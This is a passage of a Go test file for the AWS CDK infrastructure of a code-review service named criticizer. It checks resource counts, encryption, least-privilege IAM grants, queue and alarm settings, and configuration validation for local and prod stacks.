package main

import (
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/aws/aws-cdk-go/awscdk/v2"
	"github.com/aws/aws-cdk-go/awscdk/v2/assertions"
	"github.com/aws/jsii-runtime-go"

	"github.com/criticizer/criticizer/internal/p4layer"
	"github.com/criticizer/criticizer/shared/settings"
)

var functionIDs = []string{"WebhookFunction", "FetchFunction", "ReviewFunction", "NotifyFunction", "SweeperFunction"}

// testFingerprint has the shape "p4 trust -i" accepts (20 bytes).
const testFingerprint = "AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89:AB:CD:EF:01"

// dummyAssets writes <dir>/<fn>/bootstrap for every function.
func dummyAssets(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	for _, fn := range []string{"webhook", "fetch", "llm", "notify", "sweeper", "sesevents", "jobpage", "digest", "doctor"} {
		if err := os.MkdirAll(filepath.Join(dir, fn), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, fn, "bootstrap"), []byte("#!/bin/sh\necho "+fn+"\n"), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// fakeLayerBinary is the fake layer's bin/p4; fakeLayerSHA256 its SHA-256,
// the p4LayerSha256 a test environment pins.
const (
	fakeLayerBinary = "#!/bin/sh\n"
	fakeLayerSHA256 = "a8076d3d28d21e02012b20eaf7dbf75409a6277134439025f282e368e3305abf"
)

// fakeLayer is a p4 layer folder as `make p4-layer` stages it (bin/p4 and
// its record).
func fakeLayer(t *testing.T) string {
	t.Helper()
	layer := t.TempDir()
	if err := os.MkdirAll(filepath.Join(layer, "bin"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(layer, "bin", "p4"), []byte(fakeLayerBinary), 0o755); err != nil {
		t.Fatal(err)
	}
	rec := `{"sha256":"` + fakeLayerSHA256 + `","version":"Rev. P4/LINUX26AARCH64/2023.2/2519561","arch":"arm64"}`
	if err := os.WriteFile(filepath.Join(layer, p4layer.RecordName), []byte(rec), 0o644); err != nil {
		t.Fatal(err)
	}
	return layer
}

// withSamples lays the declared real-shaped values (settings.Samples) under
// the overrides of a non-local ctx: the checked-in environments hold
// placeholders synth refuses (TestCheckedInPlaceholdersRefused), and a test's
// own overrides still win.
func withSamples(ctx map[string]any) map[string]any {
	if ctx[ctxEnv] == "local" {
		return ctx
	}
	over, ok := ctx[ctxOverrides].(map[string]any)
	if !ok && ctx[ctxOverrides] != nil {
		return ctx // a JSON string, as the cdk CLI passes it: the test gives every value
	}
	ctx[ctxOverrides] = settings.SamplesUnder(over)
	return ctx
}

// testApp is an app over ctx whose cloud assembly goes to a test temp dir (a
// bare app makes a cdk.out* directory in the system temp dir and leaves it).
func testApp(t *testing.T, ctx map[string]any) awscdk.App {
	t.Helper()
	return awscdk.NewApp(&awscdk.AppProps{Context: &ctx, Outdir: jsii.String(t.TempDir())})
}

// synth builds the app with the given context and returns its template.
func synth(t *testing.T, ctx map[string]any) (assertions.Template, map[string]any) {
	t.Helper()
	if _, ok := ctx[ctxAssetRoot]; !ok {
		ctx[ctxAssetRoot] = dummyAssets(t)
	}
	_, stack, err := newApp(t.TempDir(), withSamples(ctx))
	if err != nil {
		t.Fatalf("newApp: %v", err)
	}
	tmpl := assertions.Template_FromStack(stack, nil)
	raw := *tmpl.ToJSON()
	// Normalize through encoding/json so nested values are plain maps/slices.
	b, _ := json.Marshal(raw)
	var m map[string]any
	_ = json.Unmarshal(b, &m)
	return tmpl, m
}

// check turns a failed jsii assertion (a panic) into a test error.
func check(t *testing.T, what string, f func()) {
	t.Helper()
	defer func() {
		if r := recover(); r != nil {
			t.Errorf("%s: %v", what, r)
		}
	}()
	f()
}

func resources(m map[string]any) map[string]map[string]any {
	out := map[string]map[string]any{}
	for id, r := range m["Resources"].(map[string]any) {
		out[id] = r.(map[string]any)
	}
	return out
}

func props(m map[string]any, id string) map[string]any {
	r := resources(m)[id]
	if r == nil {
		return nil
	}
	p, _ := r["Properties"].(map[string]any)
	return p
}

// grants returns "action on <json of resource>" strings for every Allow
// statement of the policies attached to the function's role.
func grants(t *testing.T, m map[string]any, fnID string) []string {
	t.Helper()
	role := props(m, fnID)["Role"].(map[string]any)["Fn::GetAtt"].([]any)[0].(string)
	var out []string
	for _, r := range resources(m) {
		if r["Type"] != "AWS::IAM::Policy" {
			continue
		}
		p := r["Properties"].(map[string]any)
		attached := false
		for _, ref := range p["Roles"].([]any) {
			if ref.(map[string]any)["Ref"] == role {
				attached = true
			}
		}
		if !attached {
			continue
		}
		for _, s := range p["PolicyDocument"].(map[string]any)["Statement"].([]any) {
			st := s.(map[string]any)
			if st["Effect"] != "Allow" {
				continue
			}
			res, _ := json.Marshal(st["Resource"])
			for _, a := range stringsOf(st["Action"]) {
				out = append(out, a+" on "+string(res))
			}
		}
	}
	return out
}

// allowed reports whether some grant allows action (exact, or a prefix
// ending in *) on a resource whose JSON mentions logical id target.
func allowed(g []string, action, target string) bool {
	for _, s := range g {
		a, res, _ := strings.Cut(s, " on ")
		match := a == action || (strings.HasSuffix(a, "*") && strings.HasPrefix(action, strings.TrimSuffix(a, "*")))
		if match && strings.Contains(res, `"`+target+`"`) {
			return true
		}
	}
	return false
}

func TestLocalStack(t *testing.T) {
	tmpl, m := synth(t, map[string]any{
		ctxEnv: "local",
		ctxOverrides: map[string]any{
			"p4Bin": "/abs/standin/p4", "p4Port": "/tmp/fixtures/depot", "llmEndpoint": "http://127.0.0.1:5001", "smtpPort": 2526,
		},
	})

	counts := map[string]int{
		"AWS::DynamoDB::Table": 1, "AWS::S3::Bucket": 2, "AWS::SecretsManager::Secret": 5, "AWS::SQS::Queue": 6,
		"AWS::Lambda::Function": 6, "AWS::Lambda::EventSourceMapping": 3, "AWS::ApiGateway::RestApi": 1,
		"AWS::ApiGateway::Method": 3, "AWS::Events::Rule": 2, "AWS::CloudWatch::Alarm": 32, "AWS::Logs::LogGroup": 7,
		"AWS::Lambda::LayerVersion": 0,
	}
	for typ, n := range counts {
		check(t, "count "+typ, func() { tmpl.ResourceCountIs(jsii.String(typ), jsii.Number(n)) })
	}
	// Nothing the emulator cannot run: no custom resources, no Node.js functions.
	for id, r := range resources(m) {
		typ := r["Type"].(string)
		if strings.HasPrefix(typ, "Custom::") || typ == "AWS::CloudFormation::CustomResource" {
			t.Errorf("local stack has custom resource %s (%s)", id, typ)
		}
		if typ == "AWS::Lambda::Function" && r["Properties"].(map[string]any)["Runtime"] != "provided.al2023" {
			t.Errorf("function %s is not provided.al2023", id)
		}
	}

	// Pinned logical ids.
	for _, id := range append([]string{"JobsTable", "RawArtifacts", "RedactedArtifacts", "WebhookSecret", "LlmSecret", "SmtpSecret", "DeliveryKeySecret",
		"FetchQueue", "LlmQueue", "NotifyQueue", "FetchDLQ", "LlmDLQ", "NotifyDLQ", "Api", "SweepSchedule"}, functionIDs...) {
		if resources(m)[id] == nil {
			t.Errorf("logical id %s missing", id)
		}
	}

	// Jobs table.
	check(t, "jobs table", func() {
		tmpl.HasResource(jsii.String("AWS::DynamoDB::Table"), map[string]any{
			"DeletionPolicy": "Delete",
			"Properties": map[string]any{
				"KeySchema": []any{
					map[string]any{"AttributeName": "pk", "KeyType": "HASH"},
					map[string]any{"AttributeName": "sk", "KeyType": "RANGE"},
				},
				"BillingMode":                      "PAY_PER_REQUEST",
				"TimeToLiveSpecification":          map[string]any{"AttributeName": "expires_at", "Enabled": true},
				"PointInTimeRecoverySpecification": map[string]any{"PointInTimeRecoveryEnabled": false},
				"GlobalSecondaryIndexes": []any{map[string]any{
					"IndexName": "sweep",
					"KeySchema": []any{
						map[string]any{"AttributeName": "sweep_shard", "KeyType": "HASH"},
						map[string]any{"AttributeName": "sweep_at", "KeyType": "RANGE"},
					},
					"Projection": map[string]any{"ProjectionType": "ALL"},
				}, map[string]any{
					"IndexName": "doubt",
					"KeySchema": []any{
						map[string]any{"AttributeName": "doubt", "KeyType": "HASH"},
						map[string]any{"AttributeName": "doubt_at", "KeyType": "RANGE"},
					},
					"Projection": map[string]any{"ProjectionType": "ALL"},
				}},
			},
		})
	})

	// Buckets: lifecycle, encryption, no public access, no logging in local.
	for id, days := range map[string]float64{"RawArtifacts": 7, "RedactedArtifacts": 30} {
		p := props(m, id)
		rules := p["LifecycleConfiguration"].(map[string]any)["Rules"].([]any)
		if got := rules[0].(map[string]any)["ExpirationInDays"]; got != days {
			t.Errorf("%s expiration = %v, want %v", id, got, days)
		}
		enc, _ := json.Marshal(p["BucketEncryption"])
		if !strings.Contains(string(enc), `"SSEAlgorithm":"AES256"`) {
			t.Errorf("%s encryption = %s", id, enc)
		}
		pab := p["PublicAccessBlockConfiguration"].(map[string]any)
		for _, k := range []string{"BlockPublicAcls", "BlockPublicPolicy", "IgnorePublicAcls", "RestrictPublicBuckets"} {
			if pab[k] != true {
				t.Errorf("%s %s = %v", id, k, pab[k])
			}
		}
		if p["LoggingConfiguration"] != nil || p["VersioningConfiguration"] != nil {
			t.Errorf("%s: local bucket must have neither access logging nor versioning", id)
		}
		if resources(m)[id]["DeletionPolicy"] != "Delete" {
			t.Errorf("%s DeletionPolicy = %v", id, resources(m)[id]["DeletionPolicy"])
		}
	}
	// enforceSSL: a deny on aws:SecureTransport=false for each bucket.
	check(t, "bucket TLS policy", func() {
		tmpl.ResourcePropertiesCountIs(jsii.String("AWS::S3::BucketPolicy"), map[string]any{
			"PolicyDocument": map[string]any{"Statement": assertions.Match_ArrayWith(&[]any{assertions.Match_ObjectLike(&map[string]any{
				"Effect": "Deny", "Condition": map[string]any{"Bool": map[string]any{"aws:SecureTransport": "false"}},
			})})},
		}, jsii.Number(2))
	})

	// Secrets.
	check(t, "webhook secret", func() {
		tmpl.HasResourceProperties(jsii.String("AWS::SecretsManager::Secret"), map[string]any{
			"GenerateSecretString": map[string]any{"PasswordLength": 48, "ExcludePunctuation": true},
		})
	})
	check(t, "llm secret", func() {
		tmpl.HasResourceProperties(jsii.String("AWS::SecretsManager::Secret"), map[string]any{
			"GenerateSecretString": assertions.Match_ObjectLike(&map[string]any{"GenerateStringKey": "api_key"}),
		})
	})
	check(t, "smtp secret", func() {
		tmpl.HasResourceProperties(jsii.String("AWS::SecretsManager::Secret"), map[string]any{
			"GenerateSecretString": assertions.Match_ObjectLike(&map[string]any{
				"GenerateStringKey": "password", "SecretStringTemplate": `{"username":"criticizer"}`,
			}),
		})
	})

	// Queues: lease = visibility timeout (llm: the llm function's timeout,
	// TestReviewSizedToWaitOutRateLimits), SSE, redrive maxAttempts+3, DLQ 14 days.
	for _, s := range []string{"Fetch", "Llm", "Notify"} {
		q := props(m, s+"Queue")
		wantVisibility := float64(10)
		if s == "Llm" {
			wantVisibility = 30
		}
		if q["VisibilityTimeout"] != wantVisibility || q["SqsManagedSseEnabled"] != true {
			t.Errorf("%sQueue visibility/SSE = %v/%v", s, q["VisibilityTimeout"], q["SqsManagedSseEnabled"])
		}
		rp := q["RedrivePolicy"].(map[string]any)
		if rp["maxReceiveCount"] != float64(8) {
			t.Errorf("%sQueue maxReceiveCount = %v, want 8", s, rp["maxReceiveCount"])
		}
		if tgt, _ := json.Marshal(rp["deadLetterTargetArn"]); !strings.Contains(string(tgt), `"`+s+`DLQ"`) {
			t.Errorf("%sQueue redrives to %s", s, tgt)
		}
		if d := props(m, s+"DLQ"); d["MessageRetentionPeriod"] != float64(14*24*3600) {
			t.Errorf("%sDLQ retention = %v", s, d["MessageRetentionPeriod"])
		}
	}

	// Event source mappings.
	for fn, q := range map[string]string{"FetchFunction": "FetchQueue", "ReviewFunction": "LlmQueue", "NotifyFunction": "NotifyQueue"} {
		check(t, "ESM "+fn, func() {
			tmpl.HasResourceProperties(jsii.String("AWS::Lambda::EventSourceMapping"), map[string]any{
				"FunctionName":          map[string]any{"Ref": fn},
				"EventSourceArn":        map[string]any{"Fn::GetAtt": []any{q, "Arn"}},
				"BatchSize":             1,
				"FunctionResponseTypes": []any{"ReportBatchItemFailures"},
				"ScalingConfig":         map[string]any{"MaximumConcurrency": 2},
			})
		})
		if got := props(m, fn)["Timeout"]; got != float64(10) && fn != "ReviewFunction" {
			t.Errorf("%s timeout = %v, want leaseSeconds 10", fn, got)
		}
	}

	// Functions: runtime, arch, memory, env.
	common := []string{"CRITICIZER_ENV", "JOBS_TABLE", "FETCH_QUEUE_URL", "LLM_QUEUE_URL", "NOTIFY_QUEUE_URL",
		"FETCH_DLQ_URL", "LLM_DLQ_URL", "NOTIFY_DLQ_URL", "RAW_BUCKET", "REDACTED_BUCKET", "LEASE_SECONDS", "MAX_ATTEMPTS", "LOG_LEVEL",
		"CLOCK_SKEW_SECONDS", "RETENTION_DAYS"}
	extra := map[string][]string{
		"WebhookFunction": {"WEBHOOK_SECRET_ID", "REPLAY_WINDOW_SECONDS"},
		"FetchFunction": {"P4_BIN", "P4PORT", "P4USER", "DEPOT_ALLOWLIST", "P4_TIMEOUT_SECONDS", "P4_SECRET_ID",
			"REDACT_EMAILS"},
		"ReviewFunction": {"LLM_PROVIDER", "LLM_ENDPOINT", "LLM_MODEL", "LLM_SECRET_ID", "LLM_TIMEOUT_SECONDS", "REDACT_EMAILS"},
		"NotifyFunction": {"SMTP_HOST", "SMTP_PORT", "SMTP_FROM", "SMTP_TLS", "SMTP_SECRET_ID", "SMTP_TIMEOUT_SECONDS", "EMAIL_PROVIDER"},
	}
	envOf := func(fn string) map[string]any {
		return props(m, fn)["Environment"].(map[string]any)["Variables"].(map[string]any)
	}
	for _, fn := range functionIDs {
		p := props(m, fn)
		if p["Handler"] != "bootstrap" || p["Architectures"].([]any)[0] != "x86_64" {
			t.Errorf("%s handler/arch = %v/%v", fn, p["Handler"], p["Architectures"])
		}
		wantMem := float64(256)
		if fn == "ReviewFunction" {
			wantMem = 512
		}
		if p["MemorySize"] != wantMem {
			t.Errorf("%s memory = %v", fn, p["MemorySize"])
		}
		// fetch spools changesets to /tmp; the others keep the default.
		tmp, _ := p["EphemeralStorage"].(map[string]any)
		if fn == "FetchFunction" && (tmp == nil || tmp["Size"] != float64(2048)) {
			t.Errorf("fetch ephemeral storage = %v, want 2048 MiB", tmp)
		} else if fn != "FetchFunction" && tmp != nil {
			t.Errorf("%s ephemeral storage = %v, want the default", fn, tmp)
		}
		if p["LoggingConfig"] == nil {
			t.Errorf("%s has no LoggingConfig", fn)
		}
		env := envOf(fn)
		for _, k := range append(append([]string{}, common...), extra[fn]...) {
			if _, ok := env[k]; !ok {
				t.Errorf("%s lacks env %s", fn, k)
			}
		}
	}
	// Overrides reached the functions.
	if e := envOf("FetchFunction"); e["P4_BIN"] != "/abs/standin/p4" || e["P4PORT"] != "/tmp/fixtures/depot" ||
		e["DEPOT_ALLOWLIST"] != "//depot/projectA/...,//depot/libs/..." {
		t.Errorf("fetch env = %v", e)
	}
	if e := envOf("ReviewFunction"); e["LLM_ENDPOINT"] != "http://127.0.0.1:5001" {
		t.Errorf("LLM_ENDPOINT = %v", e["LLM_ENDPOINT"])
	}
	if e := envOf("NotifyFunction"); e["SMTP_PORT"] != "2526" || e["SMTP_TLS"] != "none" {
		t.Errorf("notify env = %v", e)
	}
	if e := envOf("WebhookFunction"); e["REPLAY_WINDOW_SECONDS"] != "300" || e["CRITICIZER_ENV"] != "local" {
		t.Errorf("webhook env = %v", e)
	}

	// API: stage named after the env, the two routes, no API keys.
	check(t, "stage", func() {
		tmpl.HasResourceProperties(jsii.String("AWS::ApiGateway::Stage"), map[string]any{"StageName": "local"})
	})
	for _, method := range []string{"POST", "GET"} {
		check(t, "method "+method, func() {
			tmpl.HasResourceProperties(jsii.String("AWS::ApiGateway::Method"), map[string]any{
				"HttpMethod": method, "AuthorizationType": "NONE", "ApiKeyRequired": false,
				"Integration": assertions.Match_ObjectLike(&map[string]any{"Type": "AWS_PROXY"}),
			})
		})
	}
	for id, part := range map[string]string{"webhooks": "", "changelist": "", "swarm-events": "", "jobs": "", "{id}": ""} {
		_ = part
		check(t, "resource "+id, func() {
			tmpl.HasResourceProperties(jsii.String("AWS::ApiGateway::Resource"), map[string]any{"PathPart": id})
		})
	}

	check(t, "sweep schedule", func() {
		tmpl.HasResourceProperties(jsii.String("AWS::Events::Rule"), map[string]any{
			"ScheduleExpression": "rate(1 minute)",
			"Targets":            assertions.Match_ArrayWith(&[]any{assertions.Match_ObjectLike(&map[string]any{"Arn": map[string]any{"Fn::GetAtt": []any{"SweeperFunction", "Arn"}}})}),
		})
	})
	check(t, "daily retention check (rule RT-3), paging", func() {
		tmpl.HasResourceProperties(jsii.String("AWS::Events::Rule"), map[string]any{
			"ScheduleExpression": "rate(1 hour)",
			"Targets": assertions.Match_ArrayWith(&[]any{assertions.Match_ObjectLike(&map[string]any{
				"Arn": map[string]any{"Fn::GetAtt": []any{"SweeperFunction", "Arn"}}, "Input": `{"check":"retention"}`})}),
		})
		for _, m := range []string{"RetentionRowsOverdue", "RetentionRowsWithoutTTL", "RetentionObjectsOverdue"} {
			tmpl.HasResourceProperties(jsii.String("AWS::CloudWatch::Alarm"), map[string]any{"MetricName": m, "Threshold": 0})
		}
	})
	check(t, "DLQ alarms", func() {
		tmpl.ResourcePropertiesCountIs(jsii.String("AWS::CloudWatch::Alarm"), map[string]any{
			"MetricName": "ApproximateNumberOfMessagesVisible", "Period": 60, "EvaluationPeriods": 1, "Threshold": 0,
			"ComparisonOperator": "GreaterThanThreshold",
		}, jsii.Number(3))
	})
	check(t, "error alarms", func() {
		tmpl.ResourcePropertiesCountIs(jsii.String("AWS::CloudWatch::Alarm"), map[string]any{
			"MetricName": "Errors", "Namespace": "AWS/Lambda", "Threshold": 0,
		}, jsii.Number(5))
	})

	outputs := []string{"ApiId", "ApiStage", "ApiUrl", "JobsTableName", "FetchQueueUrl", "LlmQueueUrl", "NotifyQueueUrl",
		"FetchDlqUrl", "LlmDlqUrl", "NotifyDlqUrl", "RawBucketName", "RedactedBucketName", "WebhookSecretArn", "LlmSecretArn",
		"SmtpSecretArn", "DeliveryKeySecretArn", "P4SecretArn", "AlarmTopicArn", "WebhookFunctionName", "FetchFunctionName", "LlmFunctionName", "NotifyFunctionName", "SweeperFunctionName", "DoctorFunctionName"}
	got := m["Outputs"].(map[string]any)
	for _, o := range outputs {
		if got[o] == nil {
			t.Errorf("output %s missing", o)
		} else if got[o].(map[string]any)["Export"] != nil {
			t.Errorf("output %s is exported", o)
		}
	}
	if len(got) != len(outputs) {
		t.Errorf("outputs = %d, want %d", len(got), len(outputs))
	}

	// Least privilege spot checks.
	g := map[string][]string{}
	for _, fn := range functionIDs {
		g[fn] = grants(t, m, fn)
	}
	want := []struct {
		fn, action, target string
		ok                 bool
	}{
		{"WebhookFunction", "dynamodb:PutItem", "JobsTable", true},
		{"WebhookFunction", "sqs:SendMessage", "FetchQueue", true},
		{"WebhookFunction", "secretsmanager:GetSecretValue", "WebhookSecret", true},
		{"WebhookFunction", "sqs:SendMessage", "LlmQueue", false},
		{"WebhookFunction", "s3:GetObject", "RawArtifacts", false},
		{"WebhookFunction", "secretsmanager:GetSecretValue", "LlmSecret", false},
		{"FetchFunction", "sqs:ReceiveMessage", "FetchQueue", true},
		{"FetchFunction", "sqs:ChangeMessageVisibility", "FetchQueue", true},
		{"FetchFunction", "sqs:SendMessage", "LlmQueue", true},
		{"FetchFunction", "sqs:SendMessage", "FetchDLQ", true},
		{"FetchFunction", "s3:PutObject", "RawArtifacts", true},
		{"FetchFunction", "s3:PutObject", "RedactedArtifacts", true},
		{"FetchFunction", "sqs:SendMessage", "NotifyQueue", false},
		{"FetchFunction", "secretsmanager:GetSecretValue", "LlmSecret", false},
		{"ReviewFunction", "sqs:ReceiveMessage", "LlmQueue", true},
		{"ReviewFunction", "sqs:SendMessage", "NotifyQueue", true},
		{"ReviewFunction", "sqs:SendMessage", "LlmDLQ", true},
		{"ReviewFunction", "s3:GetObject", "RedactedArtifacts", true},
		{"ReviewFunction", "s3:PutObject", "RedactedArtifacts", true},
		{"ReviewFunction", "secretsmanager:GetSecretValue", "LlmSecret", true},
		{"ReviewFunction", "s3:GetObject", "RawArtifacts", false}, // un-redacted text never reaches the LLM stage
		{"ReviewFunction", "secretsmanager:GetSecretValue", "SmtpSecret", false},
		{"NotifyFunction", "sqs:ReceiveMessage", "NotifyQueue", true},
		{"NotifyFunction", "sqs:SendMessage", "NotifyDLQ", true},
		{"NotifyFunction", "s3:GetObject", "RedactedArtifacts", true},
		{"NotifyFunction", "secretsmanager:GetSecretValue", "SmtpSecret", true},
		{"NotifyFunction", "secretsmanager:GetSecretValue", "DeliveryKeySecret", true},
		{"ReviewFunction", "secretsmanager:GetSecretValue", "DeliveryKeySecret", false},
		{"WebhookFunction", "secretsmanager:GetSecretValue", "DeliveryKeySecret", false},
		{"SweeperFunction", "secretsmanager:GetSecretValue", "DeliveryKeySecret", true},
		{"SweeperFunction", "secretsmanager:GetSecretValue", "SmtpSecret", false},
		{"NotifyFunction", "s3:PutObject", "RedactedArtifacts", false},
		{"NotifyFunction", "s3:GetObject", "RawArtifacts", false},
		{"SweeperFunction", "sqs:SendMessage", "FetchQueue", true},
		{"SweeperFunction", "sqs:SendMessage", "LlmQueue", true},
		{"SweeperFunction", "sqs:SendMessage", "NotifyQueue", true},
		{"SweeperFunction", "dynamodb:Query", "JobsTable", true},
		{"SweeperFunction", "sqs:SendMessage", "FetchDLQ", false},
		{"SweeperFunction", "s3:GetObject", "RawArtifacts", false},
	}
	for _, w := range want {
		if allowed(g[w.fn], w.action, w.target) != w.ok {
			t.Errorf("%s %s on %s: allowed=%v, want %v", w.fn, w.action, w.target, !w.ok, w.ok)
		}
	}
	for _, fn := range functionIDs {
		for _, s := range g[fn] {
			if strings.HasPrefix(s, "s3:DeleteObject") || strings.HasPrefix(s, "sqs:* ") || strings.HasPrefix(s, "dynamodb:* ") {
				t.Errorf("%s has broad grant %s", fn, s)
			}
		}
	}
}

func TestProdStack(t *testing.T) {
	layer := fakeLayer(t)
	tmpl, m := synth(t, map[string]any{
		ctxEnv: "prod",
		ctxEnvironments: map[string]any{"prod": map[string]any{
			"account": "123456789012", "region": "eu-west-1",
			"maxConcurrency": map[string]any{"fetch": 8, "llm": 4, "notify": 4},
			"batchSize":      2,
			"llmEndpoint":    "https://api.openai.com", "p4Port": "ssl:p4:1666", "smtpHost": "smtp.example.com",
			"p4TrustFingerprint": testFingerprint, "depotAllowList": []any{"//depot/projectA/..."}, "recipientDomains": []any{"studio.test"},
			"smtpFrom": "criticizer@studio.test",
		}},
		// As `cdk -c overrides='{...}'` passes it: a JSON string.
		ctxOverrides: `{"p4LayerPath":"` + layer + `","p4LayerSha256":"` + fakeLayerSHA256 + `","alarmTopicArn":"arn:aws:sns:eu-west-1:123456789012:ops"}`,
	})

	check(t, "access log bucket", func() { tmpl.ResourceCountIs(jsii.String("AWS::S3::Bucket"), jsii.Number(3)) })
	for id, prefix := range map[string]string{"RawArtifacts": "raw/", "RedactedArtifacts": "redacted/"} {
		lc, _ := props(m, id)["LoggingConfiguration"].(map[string]any)
		if lc == nil || lc["LogFilePrefix"] != prefix || lc["DestinationBucketName"].(map[string]any)["Ref"] != "AccessLogs" {
			t.Errorf("%s logging = %v", id, lc)
		}
		if resources(m)[id]["DeletionPolicy"] != "Retain" {
			t.Errorf("%s DeletionPolicy = %v", id, resources(m)[id]["DeletionPolicy"])
		}
	}
	check(t, "PITR", func() {
		tmpl.HasResource(jsii.String("AWS::DynamoDB::Table"), map[string]any{
			"DeletionPolicy": "Retain",
			"Properties": assertions.Match_ObjectLike(&map[string]any{
				"PointInTimeRecoverySpecification": map[string]any{"PointInTimeRecoveryEnabled": true},
			}),
		})
	})
	check(t, "layer", func() { tmpl.ResourceCountIs(jsii.String("AWS::Lambda::LayerVersion"), jsii.Number(1)) })
	if l, _ := json.Marshal(props(m, "FetchFunction")["Layers"]); !strings.Contains(string(l), `"P4Layer"`) {
		t.Errorf("fetch layers = %s", l)
	}
	if props(m, "ReviewFunction")["Layers"] != nil {
		t.Error("llm function must not get the p4 layer")
	}
	for _, fn := range functionIDs {
		if a := props(m, fn)["Architectures"].([]any)[0]; a != "arm64" {
			t.Errorf("%s arch = %v", fn, a)
		}
	}
	check(t, "fetch ESM concurrency", func() {
		tmpl.HasResourceProperties(jsii.String("AWS::Lambda::EventSourceMapping"), map[string]any{
			// W = 8 workers = MaximumConcurrency 4 × BatchSize 2.
			"FunctionName": map[string]any{"Ref": "FetchFunction"}, "BatchSize": 2,
			"ScalingConfig": map[string]any{"MaximumConcurrency": 4},
		})
	})
	check(t, "llm ESM concurrency default", func() {
		tmpl.HasResourceProperties(jsii.String("AWS::Lambda::EventSourceMapping"), map[string]any{
			"FunctionName": map[string]any{"Ref": "ReviewFunction"}, "ScalingConfig": map[string]any{"MaximumConcurrency": 2},
		})
	})
	for _, s := range []string{"Fetch", "Llm", "Notify"} {
		want := float64(60)
		if s == "Llm" {
			want = 900 // reviewTimeoutSeconds (TestReviewSizedToWaitOutRateLimits)
		}
		if v := props(m, s+"Queue")["VisibilityTimeout"]; v != want {
			t.Errorf("%sQueue visibility = %v", s, v)
		}
	}
	check(t, "alarm actions", func() {
		tmpl.ResourcePropertiesCountIs(jsii.String("AWS::CloudWatch::Alarm"), map[string]any{
			"AlarmActions": []any{"arn:aws:sns:eu-west-1:123456789012:ops"},
		}, jsii.Number(34)) // 3 DLQ + 5 errors + 5 throttles + 3 backlog + 3 lease lost + unconfirmed + security failure + reconciling + violations + redelivery failed + escalations + 3 retention + retention round age + 2 sweeper backlog + 2 rollout SLOs of the stable prompt + acceptance
		tmpl.ResourceCountIs(jsii.String("AWS::CloudWatch::Alarm"), jsii.Number(34))
		// A security failure of the fetch stage (trust mismatch, unsound
		// protections) pages on its first dead letter.
		tmpl.HasResourceProperties(jsii.String("AWS::CloudWatch::Alarm"), map[string]any{"MetricName": "DeadLettered", "Threshold": 0,
			"Dimensions":         assertions.Match_ArrayWith(&[]any{map[string]any{"Name": "ErrorClass", "Value": "SECURITY_FAILURE"}}),
			"ComparisonOperator": "GreaterThanThreshold", "AlarmActions": []any{"arn:aws:sns:eu-west-1:123456789012:ops"}})
		// A backlog the sweeper's bounded passes cannot drain pages (15 minutes of passes).
		for _, m := range []string{"SweepBacklog", "ReconcileBacklog"} {
			tmpl.HasResourceProperties(jsii.String("AWS::CloudWatch::Alarm"), map[string]any{"MetricName": m, "Threshold": 0, "EvaluationPeriods": 3,
				"ComparisonOperator": "GreaterThanThreshold", "AlarmActions": []any{"arn:aws:sns:eu-west-1:123456789012:ops"}})
		}
		// Rule OB-5: every detected ordering violation pages, repaired or not.
		tmpl.HasResourceProperties(jsii.String("AWS::CloudWatch::Alarm"), map[string]any{"MetricName": "OutboxViolations", "Threshold": 0,
			"ComparisonOperator": "GreaterThanThreshold", "AlarmActions": []any{"arn:aws:sns:eu-west-1:123456789012:ops"}})
	})
	check(t, "stage prod", func() {
		tmpl.HasResourceProperties(jsii.String("AWS::ApiGateway::Stage"), map[string]any{"StageName": "prod"})
	})
}

func TestConfig(t *testing.T) {
	// cdk.json's environments must decode strictly and validate.
	b, err := os.ReadFile("../cdk.json")
	if err != nil {
		t.Fatal(err)
	}
	var f struct {
		App     string         `json:"app"`
		Context map[string]any `json:"context"`
	}
	if err := json.Unmarshal(b, &f); err != nil {
		t.Fatal(err)
	}
	if f.App != "go run ./infra" {
		t.Errorf("cdk.json app = %q", f.App)
	}
	for _, env := range knownEnvs {
		ctx := map[string]any{}
		for k, v := range cdkContext(t) {
			ctx[k] = v
		}
		ctx[ctxEnv] = env
		if env != "local" {
			ctx[ctxOverrides] = map[string]any{"p4LayerPath": fakeLayer(t), "p4LayerSha256": fakeLayerSHA256}
		}
		app := testApp(t, ctx)
		name, cfg, err := LoadConfig(app.Node())
		if err != nil || name != env {
			t.Errorf("cdk.json env %s: %v", env, err)
			continue
		}
		wantArch, wantLease := "arm64", 60
		if env == "local" {
			wantArch, wantLease = "x86_64", 10
		}
		if cfg.Architecture != wantArch || cfg.LeaseSeconds != wantLease || cfg.MaxAttempts != 5 || cfg.ReplayWindowSeconds != 300 {
			t.Errorf("env %s: arch %s lease %d attempts %d replay %d", env, cfg.Architecture, cfg.LeaseSeconds, cfg.MaxAttempts, cfg.ReplayWindowSeconds)
		}
	}

	for s, ok := range map[string]bool{"rate(1 minute)": true, "rate(5 minutes)": true, "rate(2 hour)": false,
		"cron(0/5 * * * ? *)": true, "cron(* * *)": false, "rate(0 minutes)": false} {
		if validSchedule(s) != ok {
			t.Errorf("validSchedule(%q) = %v", s, !ok)
		}
	}

	// Default env and rejection of bad input.
	app := testApp(t, map[string]any{})
	if name, _, _ := LoadConfig(app.Node()); name != "dev" {
		t.Errorf("default env = %q", name)
	}
	// Each bad setting is rejected with an error that names it.
	base := func(over map[string]any) map[string]any {
		o := map[string]any{"p4LayerPath": fakeLayer(t), "p4LayerSha256": fakeLayerSHA256, "llmEndpoint": "https://api.openai.com", "p4Port": "ssl:p4:1666", "smtpHost": "smtp.example.com",
			"p4TrustFingerprint": testFingerprint, "depotAllowList": []any{"//depot/projectA/..."}, "recipientDomains": []any{"studio.test"}, "smtpFrom": "criticizer@studio.test"}
		for k, v := range over {
			o[k] = v
		}
		return o
	}
	bad := []struct {
		ctx  map[string]any
		want string
	}{
		{map[string]any{ctxEnv: "qa"}, `unknown environment "qa"`},
		{map[string]any{ctxEnv: "local", ctxOverrides: map[string]any{"smptPort": 25}}, "smptPort"},
		{map[string]any{ctxEnv: "local", ctxOverrides: map[string]any{"maxConcurrency": map[string]any{"llm": 1}}}, "maxConcurrency.llm"},
